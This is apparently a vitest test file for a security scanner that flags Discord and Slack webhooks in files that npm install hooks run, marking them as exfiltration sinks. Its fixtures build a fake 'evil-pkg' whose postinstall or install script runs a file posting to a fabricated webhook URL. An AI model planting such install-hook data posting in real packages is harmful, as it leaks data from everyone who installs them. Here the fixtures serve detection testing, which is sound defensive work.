// A webhook in a file that an npm install hook runs ("postinstall": "node lib/setup.js") is an
// exfiltration channel: it runs on every install, without anyone calling it.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { create as createTar } from 'tar';
import { afterAll, describe, expect, it } from 'vitest';
import { installTargets } from '../../src/detect/index.js';
import { scan } from '../../src/scan.js';
import { fabricate } from '../support/fabricate.js';

const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));
function tree(files: Record<string, string>): string {
  const root = mkdtempSync(join(tmpdir(), 'hookscan-install-'));
  dirs.push(root);
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, rel)), { recursive: true });
    writeFileSync(join(root, rel), text);
  }
  return root;
}
const manifest = (scripts: Record<string, string>) => JSON.stringify({ name: 'evil-pkg', version: '1.0.0', scripts }, null, 2);

describe('installTargets', () => {
  it('lists the files install hooks run, and nothing else', () => {
    const text = manifest({ postinstall: 'node ./lib/setup.js && echo done', preinstall: 'bash scripts/pre.sh', test: 'node test.js' });
    expect(installTargets(Buffer.from(text))).toEqual([
      { script: 'preinstall', file: 'scripts/pre.sh' },
      { script: 'postinstall', file: 'lib/setup.js' },
    ]);
    expect(installTargets(Buffer.from(manifest({ test: 'node test.js' })))).toEqual([]);
    expect(installTargets(Buffer.from('{"scripts": {"postinstall": "node x.js"'))).toEqual([]); // not JSON
  });
});

describe('a webhook in a file an install hook runs', () => {
  it('is an exfiltration sink with the hook named in the evidence', async () => {
    const { url } = fabricate('discord');
    const root = tree({
      'package.json': manifest({ postinstall: 'node lib/setup.js' }),
      'lib/setup.js': `const target = "${url}";\nmodule.exports = target;\n`,
    });
    const r = await scan({ paths: [root] });
    expect(r.findings).toHaveLength(1);
    expect(r.findings[0]).toMatchObject({ provider: 'discord', kind: 'exfil-sink', severity: 'critical' });
    expect(r.findings[0].evidence).toContain('a Discord webhook in lib/setup.js, which the postinstall script of package.json runs on install');
  });

  it('stays a credential when no install hook runs the file', async () => {
    const { url } = fabricate('discord');
    const root = tree({
      'package.json': manifest({ test: 'node lib/setup.js' }),
      'lib/setup.js': `const target = "${url}";\n`,
    });
    const r = await scan({ paths: [root] });
    expect(r.findings.map((f) => [f.kind, f.severity])).toEqual([['credential', 'high']]);
  });

  it('is found inside an npm tarball too', async () => {
    const { url } = fabricate('slack');
    const src = tree({
      'package/package.json': manifest({ install: 'node install-helper.js' }),
      'package/install-helper.js': `fetch("${url}", { method: "POST" });\n`,
    });
    const tgz = join(src, 'evil-pkg-1.0.0.tgz');
    await createTar({ gzip: true, file: tgz, cwd: src }, ['package']);
    const r = await scan({ paths: [tgz], cwd: src });
    const f = r.findings.find((x) => x.locations[0].path.endsWith('!package/install-helper.js'));
    expect(f).toMatchObject({ kind: 'exfil-sink' });
    expect(f!.evidence!.join(' ')).toMatch(/install script of package\.json runs on install/);
  });
});
